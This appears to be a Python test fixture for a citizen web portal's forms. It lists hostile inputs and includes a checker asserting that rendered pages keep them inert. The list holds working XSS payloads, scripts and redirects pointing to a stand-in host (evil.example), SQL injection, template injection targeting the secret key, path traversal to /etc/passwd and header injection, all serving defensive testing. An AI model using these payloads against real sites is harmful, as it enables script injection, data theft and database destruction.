"""Hostile and malformed text for any form field that takes citizen input.

Reusable: feed every case to every field, then check that nothing runs (see
:func:`assert_inert`), nothing answers 500, and whatever valid was sent is kept.
Every case is plain str that a browser can send (no lone surrogates).
"""

MARK = "alert(1337)"

HOSTILE_INPUTS = [
    # Scripts and event handlers.
    f"<script>{MARK}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{MARK}",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<body onload={MARK}>",
    f'" onmouseover="{MARK}" x="',
    f"' onfocus='{MARK}' autofocus='",
    f'"><script>{MARK}</script>',
    f"'><img src=x onerror={MARK}>",
    f"</textarea><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"<iframe src=javascript:{MARK}></iframe>",
    f"<object data=javascript:{MARK}></object>",
    f"<embed src=javascript:{MARK}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    # javascript: and other dangerous links.
    f'<a href="javascript:{MARK}">bấm vào đây</a>',
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"&#106;avascript:{MARK}",
    f"<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>{MARK}",
    f"[bấm](javascript:{MARK})",
    f"<a href=vbscript:msgbox(1)>x</a>{MARK}",
    # Malformed and other markup.
    "<b>đậm<i>nghiêng</b></i>",
    "<div><p>không đóng thẻ",
    "<!-- chú thích không đóng",
    "<![CDATA[ ]]> ]]>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><button>Gửi</button></form>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "＜script＞alert(1)＜/script＞",
    # Template and injection strings.
    "{{ settings.SECRET_KEY }} {% debug %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "'; DROP TABLE questions_question; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "Tiêu đề\r\nBcc: victim@example.com",
    # Unicode oddities.
    "Ho\u0300ng Pha\u0301t la\u0300 ngu\u031bo\u031b\u0300i hỏi",  # decomposed (NFD)
    "Lê\u200b Chân\u200d\ufeff",
    "abc\u202egnp.exe",
    "nul\x00byte và \x07 chuông \x1b[31m",
    "Trường hợp emoji 👩‍👩‍👧 và 🇻🇳",
    "ﷺ Ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ",
    "a" * 400,
    "Dòng 1\nDòng 2\r\nDòng 3\rDòng 4",
    "   ",
    "",
]


def assert_inert(html: str, where: str = "") -> None:
    """Fail when ``html`` holds live markup that came from the hostile cases."""
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(html, "html.parser")
    for script in soup.find_all("script"):
        text = script.get_text() + " ".join(str(v) for v in script.attrs.values())
        assert "alert" not in text and "evil" not in text, (where, str(script))
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            assert not name.lower().startswith("on"), (where, str(tag)[:200])
            lowered = "".join(value.lower().split())
            # A form re-shown with errors holds the text in its value attribute,
            # which is inert; links, sources and targets are what would act.
            if name.lower() in ("href", "src", "action", "data", "formaction", "style"):
                assert not lowered.startswith(("javascript:", "vbscript:", "data:")), (
                    where,
                    str(tag)[:200],
                )
                assert "evil.example" not in lowered, (where, str(tag)[:200])
    # Injected <iframe>, <object>, <embed>, <base>, <svg>... only act through the
    # attributes checked above; the portal's own pages may use these tags safely.
    assert soup.find("meta", attrs={"http-equiv": True}) is None, where
    for style in soup.find_all("style"):
        assert "javascript" not in style.get_text(), (where, str(style)[:200])
